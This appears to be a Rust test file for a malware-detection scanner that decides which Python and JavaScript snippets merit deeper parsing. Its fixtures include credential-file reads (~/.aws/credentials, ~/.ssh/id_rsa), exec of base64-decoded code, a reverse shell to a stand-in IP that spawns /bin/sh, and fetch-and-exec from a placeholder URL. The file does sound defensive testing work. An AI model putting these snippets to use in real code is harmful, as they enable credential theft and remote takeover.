use super::*;

#[test]
fn plain_library_code_is_not_parsed() {
    let src = b"import os\n\ndef f():\n    return os.environ.get('HOME')\n";
    assert!(!scan(src).worth_parsing());
    let js = b"const env = process.env.NODE_ENV;\nmodule.exports = env;\n";
    assert!(!scan(js).worth_parsing());
}

#[test]
fn strong_hits_and_combinations_are_parsed() {
    assert!(scan(b"p = open('~/.aws/credentials')\n").worth_parsing());
    assert!(scan(b"x = open('/home/u/.ssh/id_rsa')\n").worth_parsing());
    // `.env` alone is configuration loading: no parse for it.
    assert!(!scan(b"x = open('.env')\n").worth_parsing());
    // A path named without any act (docs, constants) is not enough.
    assert!(!scan(b"p = '~/.aws/credentials'\n").worth_parsing());
    // Far apart, an exec and a decode are not one idiom.
    let mut far = b"def f():\n    exec(code)\n".to_vec();
    far.extend(vec![b'#'; 4000]);
    far.extend(b"\nx = base64.b64decode(s)\n");
    assert!(!scan(&far).worth_parsing());
    assert!(!scan(b"PATTERN = re.compile(r'x')\nm = /a/.exec(s)\n").worth_parsing());
    assert!(scan(b"exec(base64.b64decode(s))\n").worth_parsing());
    assert!(scan(b"subprocess.run(['ls'])\n").worth_parsing());
    // Indented: inside a function, not an import-time effect.
    assert!(!scan(b"def f():\n    subprocess.run(['ls'])\n").worth_parsing());
    assert!(!scan(b"import subprocess\n").worth_parsing());
}

#[test]
fn shells_and_fetch_and_run_inside_functions_are_parsed() {
    let shell = b"def f():\n    s = socket.socket()\n    s.connect(('198.51.100.7', 4444))\n    subprocess.call(['/bin/sh', '-i'])\n";
    assert!(scan(shell).worth_parsing());
    let fetch_run = b"def f():\n    code = urlopen('https://x.invalid/p').read()\n    exec(code)\n";
    assert!(scan(fetch_run).worth_parsing());
}

#[test]
fn every_pattern_is_found_where_it_starts() {
    // The bloom filter keys on four bytes: every pattern must have them.
    for t in pattern_texts() {
        assert!(t.len() >= 4, "{t:?} is shorter than the bloom key");
        let text = format!("xx {t} yy");
        let mut found = Vec::new();
        find_all(compiled(), text.as_bytes(), &mut found);
        assert!(
            found.iter().any(|&(_, s, e)| s == 3 && e == 3 + t.len()),
            "{t:?}"
        );
    }
}

#[test]
fn coarse_signals_have_lines() {
    let h = scan(b"a\nb\nrun('trufflehog filesystem /')\n");
    let s = h
        .coarse
        .iter()
        .find(|s| s.kind == Kind::SecretScanner)
        .unwrap();
    assert_eq!(s.line, 3);
}
